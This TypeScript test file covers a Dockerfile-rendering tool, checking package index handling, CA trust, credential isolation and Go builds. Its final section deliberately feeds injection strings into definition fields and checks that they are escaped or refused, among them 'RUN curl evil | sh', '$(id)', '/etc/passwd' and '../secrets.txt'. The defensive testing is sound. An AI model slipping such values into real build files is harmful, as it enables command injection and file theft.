import { mkdtemp, mkdir, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Config } from '../../src/config/load-config.js';
import type { Flavor, WorkerFolder } from '../../src/definitions/types.js';
import {
  flavorEntrypoint,
  renderBuild,
  renderFlavor,
  type RenderSettings,
} from '../../src/render/render-dockerfile.js';
import { TemplateSet } from '../../src/render/templates.js';
import { versionLabel, workerIdLabel, workerKindLabel } from '../../src/images/worker-labels.js';
import { testConfig } from '../helpers/config.js';
import { createCertificateAuthority } from '../../src/ca/certificates.js';

const indexCa = createCertificateAuthority({ commonName: 'index CA', days: 1 }).certificatePem;
const withIndexCa: Config = { ...testConfig, packageIndex: { ...testConfig.packageIndex!, caPem: indexCa } };

function settings(config: Config = withIndexCa): RenderSettings {
  return { config, baseImages: config.baseImages, templates: new TemplateSet(config.templates) };
}

function flavor(command: string, extra: Partial<Flavor['definition']> = {}): Flavor {
  return {
    file: 'analyzers/X/X.json',
    id: 'X_1_0',
    definition: {
      name: 'X',
      version: '1.0',
      author: 'a',
      url: 'u',
      license: 'l',
      description: 'd',
      dataTypeList: [],
      command,
      baseConfig: 'X',
      ...extra,
    },
  };
}

async function repoWith(directory: string, files: Record<string, string>): Promise<string> {
  const repo = await mkdtemp(path.join(tmpdir(), 'neurons-render-'));
  await mkdir(path.join(repo, 'analyzers', directory), { recursive: true });
  for (const [name, content] of Object.entries(files))
    await writeFile(path.join(repo, 'analyzers', directory, name), content);
  return repo;
}

function worker(directory: string, runtime: WorkerFolder['runtime'], command: string): WorkerFolder {
  return {
    kind: 'analyzer',
    directory,
    path: `analyzers/${directory}`,
    runtime,
    flavors: [flavor(command)],
    definitionFiles: [],
    errorCount: 0,
  };
}

describe('Dockerfile rendering', () => {
  it('python: installs requirements from the configured index in the builder stage only', async () => {
    const repo = await repoWith('Py', { 'py.py': '', 'requirements.txt': 'x\n' });
    const build = await renderBuild(repo, worker('Py', 'python', 'Py/py.py'), 'requirements.txt', settings());
    const [, builder = '', final = ''] = build.dockerfile.split(/\n(?=FROM )/);
    expect(builder).toContain('FROM mirror/python:3.11 AS builder');
    expect(builder).toContain('ARG NEURONS_PACKAGE_INDEX="https://index.example/simple/"');
    expect(builder).toContain('RUN PIP_INDEX_URL="$FTP_PROXY" FTP_PROXY= ftp_proxy= /opt/venv/bin/pip install');
    expect(builder).toContain('COPY .neurons/trust/ /usr/local/share/ca-certificates/neurons/');
    expect(builder).toContain('ENV PIP_CERT=/etc/ssl/certs/ca-certificates.crt');
    expect(builder).toContain('COPY ["worker/requirements.txt","/build/requirements.txt"]');
    expect(final).not.toMatch(/PIP_|ca-certificates|pip install/);
    expect(final).toContain('COPY ["worker/","/worker/Py/"]');
    expect(build.dockerfile).not.toContain('index-secret');
    // Only in a predefined proxy argument: the engine keeps those out of the history and the cache key.
    expect(build.secretBuildArgs).toEqual({ FTP_PROXY: 'https://u:index-secret@index.example/simple/' });
    expect(build.extraFiles.get('.neurons/trust/neurons-0.crt')?.toString().trim()).toBe(indexCa.trim());
    expect(build.templateId).toBe('python/3');
  });

  it('python: an extra index reaches the install step the same way', async () => {
    const repo = await repoWith('Py', { 'py.py': '', 'requirements.txt': 'x\n' });
    const config = {
      ...testConfig,
      packageIndex: { ...testConfig.packageIndex!, extraUrl: 'https://extra.example/simple/' },
    };
    const build = await renderBuild(repo, worker('Py', 'python', 'Py/py.py'), 'requirements.txt', settings(config));
    expect(build.dockerfile).toContain(
      'ARG NEURONS_PACKAGE_INDEX="https://index.example/simple/ https://extra.example/simple/"',
    );
    expect(build.dockerfile).toContain(
      'RUN PIP_INDEX_URL="$FTP_PROXY" PIP_EXTRA_INDEX_URL="$ftp_proxy" FTP_PROXY= ftp_proxy= /opt/venv/bin/pip',
    );
    expect(build.secretBuildArgs['ftp_proxy']).toBe('https://u:index-secret@extra.example/simple/');
  });

  it('python: credentials written into the index URL stay out of the Dockerfile too', async () => {
    const repo = await repoWith('Py', { 'py.py': '', 'requirements.txt': 'x\n' });
    const config = {
      ...testConfig,
      packageIndex: {
        url: 'https://inline:inline-secret@index.example/simple/',
        extraUrl: undefined,
        credentials: undefined,
        caPem: undefined,
      },
    };
    const build = await renderBuild(repo, worker('Py', 'python', 'Py/py.py'), 'requirements.txt', settings(config));
    expect(build.dockerfile).not.toContain('inline');
    expect(build.secretBuildArgs).toEqual({ FTP_PROXY: 'https://inline:inline-secret@index.example/simple/' });
  });

  it('trust: configured CAs in every build stage, in the final stage only with trust.runtime', async () => {
    const repo = await repoWith('Py', { 'py.py': '' });
    const trusted = { ...testConfig, trust: { caPems: [indexCa], runtime: false } };
    const buildOnly = await renderBuild(repo, worker('Py', 'python', 'Py/py.py'), undefined, settings(trusted));
    const [, builder = '', final = ''] = buildOnly.dockerfile.split(/\n(?=FROM )/);
    expect(builder).toContain('RUN update-ca-certificates');
    expect(final).not.toContain('ca-certificates');
    const runtime = await renderBuild(
      repo,
      worker('Py', 'python', 'Py/py.py'),
      undefined,
      settings({ ...trusted, trust: { caPems: [indexCa], runtime: true } }),
    );
    const [, , runtimeFinal = ''] = runtime.dockerfile.split(/\n(?=FROM )/);
    expect(runtimeFinal).toContain('REQUESTS_CA_BUNDLE=/etc/ssl/certs/ca-certificates.crt');
    expect(runtimeFinal).toContain('NODE_EXTRA_CA_CERTS=/etc/ssl/certs/ca-certificates.crt');
    expect([...runtime.extraFiles.keys()]).toEqual(['.neurons/trust/neurons-0.crt']);
    const go = await repoWith('Go', {
      'go.mod': 'module x\n',
      'main.go': 'package main\nconst in = "/job"\nfunc main() {}\n',
    });
    const goBuild = await renderBuild(go, worker('Go', 'go', 'Go/check'), undefined, settings(trusted));
    expect(goBuild.dockerfile.indexOf('cp /etc/ssl/certs/ca-certificates.crt /ca-bundle.crt')).toBeLessThan(
      goBuild.dockerfile.indexOf('update-ca-certificates'),
    );
  });

  it('python without requirements: no pip step, no index', async () => {
    const repo = await repoWith('Py', { 'py.py': '' });
    const build = await renderBuild(repo, worker('Py', 'python', 'Py/py.py'), undefined, settings());
    expect(build.dockerfile).not.toMatch(/pip install|PIP_INDEX_URL/);
    expect(build.secretBuildArgs).toEqual({});
  });

  it('go: static build, scratch final image, job adapter for stdin/stdout workers', async () => {
    const repo = await repoWith('Go', { 'go.mod': 'module x\n', 'main.go': 'package main\nfunc main() {}\n' });
    const build = await renderBuild(repo, worker('Go', 'go', 'Go/bin/check'), undefined, settings());
    expect(build.dockerfile).toContain('ENV CGO_ENABLED=0');
    expect(build.dockerfile).toContain('-trimpath');
    expect(build.dockerfile).toContain('-o /out/bin/check .');
    expect(build.dockerfile).toContain('FROM scratch');
    expect([...build.extraFiles.keys()]).toEqual(['.neurons/adapter/go.mod', '.neurons/adapter/main.go']);
    expect(flavorEntrypoint('go', flavor('Go/bin/check'), true)).toBe(
      '["/usr/local/bin/neurons-job-adapter","/worker/Go/bin/check"]',
    );
  });

  it('go: the protocol is a per-worker setting, else read from the sources', async () => {
    const reads = await repoWith('Go', {
      'go.mod': 'module x\n',
      'main.go': 'package main\nconst in = "/job"\nfunc main() {}\n',
    });
    expect((await renderBuild(reads, worker('Go', 'go', 'Go/check'), undefined, settings())).dockerfile).not.toContain(
      'adapter',
    );
    const forced = { ...testConfig, workers: { Go: { protocol: 'stdio' as const } } };
    expect(
      (await renderBuild(reads, worker('Go', 'go', 'Go/check'), undefined, settings(forced))).dockerfile,
    ).toContain('neurons-job-adapter');
    expect(flavorEntrypoint('go', flavor('Go/check'), false)).toBe('["/worker/Go/check"]');
  });

  it('go: a module with vendor/ builds from it alone; GOFLAGS set in the stage, whatever the base image says', async () => {
    const repo = await repoWith('Go', {
      'go.mod': 'module x\nrequire example.com/y v1.0.0\n',
      'main.go': 'package main\nfunc main() {}\n',
    });
    await mkdir(path.join(repo, 'analyzers', 'Go', 'vendor'));
    const config = { ...testConfig, goProxy: 'https://u:proxy-secret@proxy.example/' };
    const build = await renderBuild(repo, worker('Go', 'go', 'Go/check'), undefined, settings(config));
    expect(build.dockerfile).toContain('ENV CGO_ENABLED=0 GOFLAGS=-mod=vendor GOPROXY=off');
    expect(build.dockerfile).not.toMatch(/go mod download|proxy\.example/);
    expect(build.secretBuildArgs).toEqual({});
  });

  it('go: an unvendored module downloads from the configured proxy, its credentials in the build secret alone', async () => {
    const repo = await repoWith('Go', {
      'go.mod': 'module x\nrequire (\n\texample.com/y v1.0.0\n)\n',
      'main.go': 'package main\nfunc main() {}\n',
    });
    const config = { ...testConfig, goProxy: 'https://u:proxy-secret@proxy.example/' };
    const build = await renderBuild(repo, worker('Go', 'go', 'Go/check'), undefined, settings(config));
    const [, builder = '', final = ''] = build.dockerfile.split(/\n(?=FROM )/);
    expect(builder).toContain('ENV CGO_ENABLED=0 GOFLAGS=-mod=mod GOPROXY=off');
    expect(builder).toContain('ARG NEURONS_GOPROXY="https://proxy.example/"');
    expect(builder).toContain('RUN GOPROXY="$FTP_PROXY" FTP_PROXY= ftp_proxy= go mod download');
    expect(final).not.toContain('GOPROXY');
    expect(build.dockerfile).not.toContain('proxy-secret');
    expect(build.secretBuildArgs).toEqual({ FTP_PROXY: 'https://u:proxy-secret@proxy.example/' });
    // Without requirements there is nothing to download: no proxy step.
    const stdlib = await repoWith('Go', { 'go.mod': 'module x\n', 'main.go': 'package main\nfunc main() {}\n' });
    expect(
      (await renderBuild(stdlib, worker('Go', 'go', 'Go/check'), undefined, settings(config))).dockerfile,
    ).not.toContain('go mod download');
  });

  it('go: refuses, before any build, a module that needs a proxy none is configured for, and code without go.mod', async () => {
    const repo = await repoWith('Go', {
      'go.mod': 'module x\nrequire example.com/y v1.0.0\n',
      'main.go': 'package main\nfunc main() {}\n',
    });
    await expect(renderBuild(repo, worker('Go', 'go', 'Go/check'), undefined, settings())).rejects.toMatchObject({
      code: 'RENDER_GO_NO_PROXY',
      problem: { file: 'analyzers/Go/go.mod', hint: expect.stringContaining('go mod vendor') },
    });
    const old = await repoWith('Old', { 'main.go': 'package main\nfunc main() {}\n' });
    await expect(renderBuild(old, worker('Old', 'go', 'Old/check'), undefined, settings())).rejects.toMatchObject({
      code: 'RENDER_GO_NO_MODULE',
      problem: { file: 'analyzers/Old', hint: expect.stringContaining('go mod init') },
    });
  });

  it('go: a flavor passes the job folder as argument by default, as the process runner does', () => {
    const source = { revision: undefined, created: undefined, url: undefined };
    const dockerfile = renderFlavor(new TemplateSet(), {
      folderImage: 'f:1',
      worker: worker('Go', 'go', 'Go/check'),
      flavor: flavor('Go/check'),
      source,
      templateId: 'go/3',
      stdio: false,
    });
    expect(dockerfile).toContain('ENTRYPOINT ["/worker/Go/check"]\nCMD ["/job"]');
  });

  it('node: npm ci with a lockfile, from the configured npm registry', async () => {
    const repo = await repoWith('Js', {
      'package.json': '{"dependencies":{"a":"1"}}',
      'package-lock.json': '{}',
      'index.js': '',
    });
    const config = { ...testConfig, npmRegistry: 'https://npm.example/' };
    const build = await renderBuild(repo, worker('Js', 'node', 'Js/index.js'), undefined, settings(config));
    expect(build.dockerfile).toContain('FROM mirror/node:18 AS builder');
    expect(build.dockerfile).toContain('ARG NEURONS_NPM_REGISTRY="https://npm.example/"');
    expect(build.dockerfile).toContain('RUN NPM_CONFIG_REGISTRY="$FTP_PROXY" FTP_PROXY= ftp_proxy= npm ci --omit=dev');
    expect(build.secretBuildArgs).toEqual({ FTP_PROXY: 'https://npm.example/' });
    const bare = await repoWith('Js', { 'index.js': '' });
    const simple = await renderBuild(bare, worker('Js', 'node', 'Js/index.js'), undefined, settings());
    expect(simple.dockerfile).not.toMatch(/npm|AS builder/);
  });

  it('custom: the folder Dockerfile as is, base images as build arguments', async () => {
    const repo = await repoWith('Own', { Dockerfile: 'FROM own\n', 'x.py': '' });
    const custom = await renderBuild(repo, worker('Own', 'custom', 'Own/x.py'), undefined, settings());
    expect(custom.dockerfile).toBe('FROM own\n');
    expect(custom.contextPrefix).toBe('');
    expect(custom.buildArgs['NEURONS_BASE_PYTHON']).toBe('mirror/python:3.11');
    expect(flavorEntrypoint('custom', flavor('Own/x.py'), false)).toBeUndefined();
  });

  it('labels every flavor image, a custom Dockerfile too, with what the catalog stage checks', () => {
    const source = { revision: undefined, created: undefined, url: undefined };
    for (const runtime of ['python', 'custom'] as const) {
      const dockerfile = renderFlavor(new TemplateSet(), {
        folderImage: 'f:1',
        worker: worker('Own', runtime, 'Own/x.py'),
        flavor: flavor('Own/x.py', { name: 'Own', version: '2.3' }),
        source,
        templateId: runtime,
        stdio: false,
      });
      expect(dockerfile).toMatch(/^FROM f:1$/m);
      // The worker id comes from the flavor (createWorkerId), the version from the definition.
      expect(dockerfile).toContain(`${workerIdLabel}="X_1_0"`);
      expect(dockerfile).toContain(`${workerKindLabel}="analyzer"`);
      expect(dockerfile).toContain(`${versionLabel}="2.3"`);
    }
  });

  it('a repository template overrides a built-in', async () => {
    const repo = await repoWith('Py', { 'py.py': '' });
    const template = path.join(repo, 'python.hbs');
    await writeFile(template, 'FROM {{baseImage}}\nCOPY {{{copyWorker}}}\n');
    const build = await renderBuild(
      repo,
      worker('Py', 'python', 'Py/py.py'),
      undefined,
      settings({ ...testConfig, templates: { python: template } }),
    );
    expect(build.dockerfile).toBe('FROM mirror/python:3.11\nCOPY ["worker/","/worker/Py/"]\n');
    expect(build.templateId).toBe('python/custom');
  });

  it('fails with a coded error when a runtime has no base image', async () => {
    const repo = await repoWith('Js', { 'index.js': '' });
    const bare = { ...testConfig, baseImages: { python: undefined, go: undefined, node: undefined } };
    await expect(
      renderBuild(repo, worker('Js', 'node', 'Js/index.js'), undefined, settings(bare)),
    ).rejects.toMatchObject({ code: 'RENDER_NO_BASE_IMAGE', problem: { file: 'analyzers/Js' } });
  });
});

describe('injection through definition values', () => {
  const source = { revision: undefined, created: undefined, url: undefined };
  const base = {
    folderImage: 'f:1',
    worker: worker('X', 'python', 'X/x.py'),
    source,
    templateId: 'python/2',
    stdio: false,
  };

  it('renders hostile label values inert: one line, quotes, backslashes and $ escaped', () => {
    const hostile = 'desc" \\\nRUN curl evil | sh\n$HOME ${PATH} \\';
    const dockerfile = renderFlavor(new TemplateSet(), {
      ...base,
      flavor: flavor('X/x.py', { description: hostile, name: 'X"\nRUN id' }),
    });
    const lines = dockerfile.split('\n');
    expect(lines.filter((line) => /^\s*RUN/.test(line))).toEqual([]);
    const description = lines.find((line) => line.includes('image.description=')) ?? '';
    expect(description).toContain('"desc\\" \\\\\\nRUN curl evil | sh\\n\\$HOME \\${PATH} \\\\"');
    expect(lines.find((line) => line.includes('image.title='))).toContain('"X\\"\\nRUN id"');
  });

  it('refuses a command, requirements file or folder that could change an instruction', async () => {
    expect(() => flavorEntrypoint('python', flavor('X/x.py"]\nRUN id #'), false)).toThrow(
      expect.objectContaining({
        code: 'RENDER_UNSAFE_VALUE',
        problem: expect.objectContaining({ pointer: '/command' }),
      }),
    );
    expect(() => flavorEntrypoint('python', flavor('X/$(id).py'), false)).toThrow(
      expect.objectContaining({ code: 'RENDER_UNSAFE_VALUE' }),
    );
    const repo = await repoWith('X', { 'x.py': '' });
    await expect(
      renderBuild(repo, worker('X', 'python', 'X/x.py'), 'req.txt /etc/passwd\nRUN id', settings()),
    ).rejects.toMatchObject({ code: 'RENDER_UNSAFE_VALUE', problem: { pointer: '/requirements' } });
    await expect(
      renderBuild(repo, worker('X', 'python', 'X/x.py'), '../secrets.txt', settings()),
    ).rejects.toMatchObject({ code: 'RENDER_UNSAFE_VALUE' });
    const odd = await repoWith('X Y', { 'x.py': '' });
    await expect(renderBuild(odd, worker('X Y', 'python', 'X Y/x.py'), undefined, settings())).rejects.toMatchObject({
      code: 'RENDER_UNSAFE_VALUE',
      problem: { pointer: '/directory' },
    });
  });
});
